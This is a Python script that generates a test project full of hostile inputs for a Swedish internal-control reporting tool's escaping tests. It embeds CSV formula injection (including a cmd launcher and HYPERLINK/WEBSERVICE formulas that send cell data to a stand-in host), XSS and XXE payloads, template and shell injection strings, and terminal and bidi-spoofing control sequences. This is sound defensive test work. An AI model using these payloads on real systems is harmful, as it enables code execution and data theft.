"""A project whose every text is hostile: formulas, markup, code of templates, control characters, odd letters.

`python3 hostile_project.py FOLDER` writes it, with nothing but the standard library: tests/browser/run looks at its
pages, hostile_text.py at its other files. A text that is executed sets `window.__pwned`, and one that fetches asks
for frist.invalid, a domain that cannot exist.
"""

import json
import sys
from collections.abc import Iterator
from pathlib import Path

ADDRESS = "https://frist.invalid"
PWNED = "window.__pwned=1"
ESCAPE = "\x1b"

# What a spreadsheet may take for a formula, at the start of a cell or after what it strips.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1 flik",
    "\r=1+1 retur",
    "\n=1+1 rad",
    " =1+1 blank",
    "\u00a0=1+1 hårt blank",
    "\ufeff=1+1 märke",
    "\u200b=1+1 utan bredd",
    "\x01=1+1 styrtecken",
    "\u202e=1+1 omvänt",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "'=1+1",
    '"=1+1',
    '";=1+1',
    "a\n=1+1",
    f'=HYPERLINK("{ADDRESS}/?"&A1;"klicka")',
    f'=WEBSERVICE("{ADDRESS}")',
    "=cmd|'/C calc'!A0",
    "{=1+1}",
    "of:=1+1",
)
MARKUP = (
    f"<script>{PWNED}</script>",
    f'"><img src="{ADDRESS}/x.png" onerror="{PWNED}">',
    f"' onmouseover='{PWNED}' x='",
    f"</style><script>{PWNED}</script>",
    f"</title></head><body onload={PWNED}>",
    f"</script><script>{PWNED}</script>",
    f'</text></svg><svg onload="{PWNED}">',
    f'<iframe src="javascript:{PWNED}"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={ADDRESS}">',
    f'<base href="{ADDRESS}/">',
    f'<a href="javascript:{PWNED}">klicka</a>',
    "<!-- kommentar",
    "-->",
    "]]>",
    "<![CDATA[ x ]]>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>&y;',
    "<?xml version='1.0'?>",
    "&lt;b&gt; &amp; &#60;i&#62; &nbsp;",
    "<w:p/></w:t>",
)
CODE = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{% include 'page.css' %}",
    "{# anmärkning #}",
    "{control} {{ {",
    '#import "x"',
    '#read("/etc/hostname")',
    "#set page(width: 1pt)",
    f'#link("{ADDRESS}")[klicka]',
    "$x$",
    "$ sum_(i=0)^n",
    "= Rubrik",
    "@hänvisning <etikett>",
    "*fet* _kursiv_ `kod` ~ \\ // /* */",
    "# rubrik",
    "- punkt",
    "1. nummer",
    "> citat",
    "| a | b |",
    "```",
    f"![bild]({ADDRESS}/x.png)",
    f"[klicka](javascript:{PWNED})",
    f"<{ADDRESS}>",
    "%s %n %x ${HOME} $(id) `id`",
    "../../etc/hostname",
)
CONTROL = (
    "nolla\x00här",
    "klocka\x07 och \x08 bakåt",
    "lodrät\x0bflik\x0cblad",
    f"{ESCAPE}[31mröd{ESCAPE}[0m",
    f"{ESCAPE}]8;;{ADDRESS}{ESCAPE}\\länk{ESCAPE}]8;;{ESCAPE}\\",
    f"{ESCAPE}]0;titel\x07",
    "\x9b31mröd med ett tecken",
    "\x7fraderat",
    "\u202egpj.exe",
    "\u2066inuti\u2069 \u202bomvänt\u202c",
    "\u200eåt höger\u200f",
    "rad\u2028stycke\u2029slut",
    "\ufffeinget\uffff tecken",
    "\ufff9not\ufffatill\ufffbslut",
    "_x0041_ _x001B_[31m",
)
LETTERS = (
    f"javascript:{PWNED}",
    f"data:text/html,<script>{PWNED}</script>",
    "file:///etc/hostname",
    "\\\\frist.invalid\\mapp",
    "mailto:namn@frist.invalid",
    "Ä" * 300,
    "ord" * 100 + "-" + "ord" * 100,
    "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f 🇸🇪",
    "児童福祉課",
    "אבג دهو",
    "Z" + "\u0337\u0310\u0322" * 20,
    "𝒳 \U0001d54f \U0010ffff",
    "e\u0301 o\u0308 ﬁ ß İ ı",
    "–",
    "NULL",
)
TEXTS = (*FORMULAS, *MARKUP, *CODE, *CONTROL, *LETTERS)
# For prose, which may be of any length.
EVERYTHING = " ".join(TEXTS)
# For what is a name and stands in headings and on charts.
MIXTURE = f'=1+1 </text></style><script>{PWNED}</script>{{{{ 7*7 }}}} #import "x" $x$ ]]> {ESCAPE}[31m \u202e'

AS_OF = "2024-08-31"
CASES_OF_A_UNIT = 12
START, END, GROUP = "Utredning inledd", "Utredning avslutad", f"=1+1 {MARKUP[1]} {{{{ 7*7 }}}}"
MIXED_TYPE = "Typ"
# Bytes that are no text in UTF-8: lone halves of a pair, a letter cut off, one too long, a letter of windows-1252.
NO_TEXT = (b"\xed\xa0\x80 halv", b"\xed\xb0\x80 andra", b"avbruten \xc3", b"\xc0\xaf", b"V\xe4st")
# No file may have a slash or a zero byte in its name.
EXPORTS = {
    "units": "=1+1 <img src=x onerror=window.__pwned=1>.csv",
    "types": f"+1+1 {ESCAPE}[31m \u202egpj.csv",
    "broken": '@SUM(1) "\'&{{ 7*7 }}.csv',
}


def text_at(place: int) -> str:
    """One text after the other, beginning again after the last."""
    return TEXTS[place % len(TEXTS)]


def toml(text: str) -> str:
    """A text as TOML has it: its control characters are escaped."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def pattern(name: str) -> str:
    """The pattern that finds a file of this name: a bracket stands for itself in brackets."""
    return toml(name.replace("[", "[[]"))


def cell(text: str) -> str:
    """A text as a cell of an export."""
    return '"' + text.replace('"', '""') + '"'


def case_row(number: int, place: int, name: str) -> str:
    """A case of a group: started in one month after the other, every third of them late."""
    month, year = number % 12 + 1, 2023
    end = (year, month + 6) if number % 3 == 0 else (year, month + 2)
    end = end if end[1] <= 12 else (end[0] + 1, end[1] - 12)
    number_of_case = cell(f"{text_at(place)} {place}-{number}")
    return f"{number_of_case};{year}-{month:02}-10;{end[0]}-{end[1]:02}-10;{cell(name)}\n"


def units_export() -> bytes:
    """A unit for every text."""
    rows = [f"{cell('Ärendenr')};{START};{END};{cell(GROUP)}\n"]
    for place, name in enumerate(TEXTS):
        rows += [case_row(number, place, name) for number in range(CASES_OF_A_UNIT)]
    return "".join(rows).encode()


def types_export() -> bytes:
    """A type for every text, of which one belongs to a control."""
    rows = [f"Ärendenr;Anmälan inkom;Förhandsbedömning klar;{MIXED_TYPE}\n"]
    for place, name in enumerate(TEXTS):
        rows += [
            f"{place}-{number};2024-0{number % 8 + 1}-02;2024-0{number % 8 + 1}-10;{cell(name)}\n"
            for number in range(CASES_OF_A_UNIT)
        ]
    return "".join(rows).encode()


def broken_export() -> bytes:
    """Cells that are no text, and none that is a date."""
    rows = ["Ärendenr;Begäran inkom;Erbjuden tid;Enhet\n".encode()]
    for place in range(3 * CASES_OF_A_UNIT):
        name = NO_TEXT[place % len(NO_TEXT)]
        end = b"2024-05-17" if place % 4 else name
        rows.append(b"%d %s;2024-05-10;%s;%s\n" % (place, name, end, name))
    return b"".join(rows)


def risk_list() -> bytes:
    """A risk for every text."""
    texts = ("Nr", "Område", "Ansvarsområde/process", "Risk")
    headings = (*texts, "Sannolikhet", "Konsekvens", "Befintliga åtgärder", "Hantering", "Följer plan", "Kommentar")
    rows = [";".join(headings) + "\n"]
    for place in range(len(TEXTS)):
        words = [cell(text_at(place + column)) for column in range(7)]
        numbers = [str(place % 4 + 1), str(place // 4 % 4 + 1)]
        follows = ("Ja", "Nej", "")[place % 3]
        rows.append(";".join([*words[:4], *numbers, *words[4:6], follows, words[6]]) + "\n")
    return "".join(rows).encode("utf-8-sig")


def rulebook() -> str:
    """A rule of the project's own, named as nothing should be."""
    both = f"{{ sv = {toml(MIXTURE)}, en = {toml(MIXTURE)} }}"
    return f"""
[[rule]]
id        = "child-investigation"
name      = {both}
start     = {both}
end       = {both}
basis     = "statute"
method    = "4 months"
reference = "120 days"
roll      = "none"
cohort    = "closed"
headings  = {{ start = [{toml(START)}], end = [{toml(END)}] }}

[[rule.law]]
citation = {both}
verified = false
note     = {both}
"""


def project() -> str:
    """The project file."""
    text = toml(MIXTURE)
    return f"""
organisation = {text}
as_of        = {AS_OF}
period       = "tertial"
rulebook     = "regler.toml"

[[source]]
control = "child-investigation"
files   = [{pattern(EXPORTS["units"])}]
columns = {{ case_id = "Ärendenr", start = {toml(START)}, end = {toml(END)}, group = {toml(GROUP)} }}

[[source]]
types   = {{ {toml(TEXTS[0])} = "preliminary-assessment" }}
files   = [{pattern(EXPORTS["types"])}]
columns = {{ type = {toml(MIXED_TYPE)} }}

[[source]]
control  = "cooperation-talks"
files    = [{pattern(EXPORTS["broken"])}]
encoding = "utf-8"

[[reported]]
control = "child-investigation"
period  = "2022-T3"
share   = 0.41
method  = {text}
source  = {toml(EVERYTHING)}

[[rebase]]
control = "child-investigation"
from    = "2023-09"
reason  = {text}
"""


def control_point(place: int) -> str:
    """A control point; each of its texts is another one."""
    texts = [toml(text_at(place + field)) for field in range(9)]
    name, department, method, comment, action, reason, group, counted, result = texts
    status = ("begun", "not-begun", "paused", "completed")[place % 4]
    severity = ("none", "minor", "severe")[place % 3]
    return f"""
[[area.risk_point.control_point]]
name            = {name}
department      = {department}
frequency       = ["april", "august"]
method          = {method}
status          = "{status}"
comment         = {comment}
planned_action  = {action}
severity        = "{severity}"
severity_reason = {reason}

[[area.risk_point.control_point.result]]
group    = {group}
name     = {counted}
count    = 8
of       = 20
deviates = "count"

[[area.risk_point.control_point.result]]
text = {result}
"""


def plan() -> Iterator[str]:
    """The plan: a control point for every text."""
    title, text, points_of_a_risk = toml(MIXTURE), toml(EVERYTHING), 10
    listed = toml("\n\n".join(TEXTS) + "\n\n" + "\n".join(f"- {text}" for text in TEXTS))
    yield f"title = {title}\nbackground = {listed}\n"
    yield f"[risks]\ntitle = {title}\nbackground = {listed}\n"
    for place in range(len(TEXTS)):
        if place % (3 * points_of_a_risk) == 0:
            yield f"\n[[area]]\nname = {toml(text_at(place))}\naim = {text}\n"
        if place % points_of_a_risk == 0:
            yield f"\n[[area.risk_point]]\nname = {toml(text_at(place + 1))}\n"
        yield control_point(place)


def write(folder: Path) -> None:
    """Writes the project."""
    folder.mkdir(parents=True)
    exports = {"units": units_export(), "types": types_export(), "broken": broken_export()}
    for name, content in exports.items():
        (folder / EXPORTS[name]).write_bytes(content)
    (folder / "risks.csv").write_bytes(risk_list())
    (folder / "regler.toml").write_text(rulebook(), encoding="utf-8")
    (folder / "internal-control.toml").write_text("".join(plan()), encoding="utf-8")
    (folder / "frist.toml").write_text(project(), encoding="utf-8")


def write_long(folder: Path, length: int) -> None:
    """Writes a project with a text of so many letters, each two halves of UTF-16."""
    folder.mkdir(parents=True)
    rows = [f"Ärendenr;{START};{END}\n"]
    rows += [f"{number};2024-0{number % 8 + 1}-02;2024-0{number % 8 + 1}-10\n" for number in range(20)]
    (folder / "uttag.csv").write_text("".join(rows), encoding="utf-8")
    (folder / "frist.toml").write_text(f"as_of = {AS_OF}\n", encoding="utf-8")
    long = "\U0001f600" * length
    point = f"""
[[area]]
name = "Område"
[[area.risk_point]]
name = "Riskpunkt"
[[area.risk_point.control_point]]
name       = "Kontrollmoment"
department = "Avdelning"
frequency  = ["april"]
method     = "Alla ärenden"
status     = "begun"
comment    = "{long}"
"""
    (folder / "internal-control.toml").write_text(point, encoding="utf-8")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(f"usage: {sys.argv[0]} FOLDER")
    write(Path(sys.argv[1]))
